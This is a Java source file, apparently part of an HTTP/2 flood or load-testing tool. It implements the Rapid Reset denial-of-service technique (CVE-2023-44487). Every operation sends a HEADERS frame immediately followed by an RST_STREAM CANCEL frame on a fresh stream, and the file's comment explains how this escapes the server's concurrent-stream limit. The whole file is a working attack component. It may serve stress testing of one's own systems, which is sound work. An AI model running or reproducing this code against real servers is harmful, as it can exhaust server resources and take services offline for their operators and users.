package dev.seawall.deploy.flood.attack;

import java.io.IOException;
import java.nio.ByteBuffer;

/**
 * Requests that are taken back at once (CVE-2023-44487): a stream that was reset no longer counts against the server's
 * limit of concurrent streams, but the work for it has begun. An operation is HEADERS and RST_STREAM, in one piece.
 * Threads as {@link Talk} has them.
 */
final class RapidReset extends Http2Talk {
    private final Wire wire;
    private final byte[] request;
    private int stream = -1;

    RapidReset(Wire wire, Tally tally, boolean tls, String path, String authority) throws IOException {
        super(wire, tally);
        this.wire = wire;
        request = Http2.get(tls, path, authority);
    }

    @Override
    public void say() throws IOException {
        stream += 2;
        if (stream < 0) {
            throw new IOException("no stream numbers are left");
        }
        byte[] headers = Http2.frame(Http2.HEADERS, Http2.END_HEADERS | Http2.END_STREAM, stream, request);
        byte[] reset = Http2.frame(Http2.RST_STREAM, 0, stream, Http2.code(Http2.CANCEL));
        wire.send(ByteBuffer.allocate(headers.length + reset.length)
                .put(headers)
                .put(reset)
                .array());
    }
}
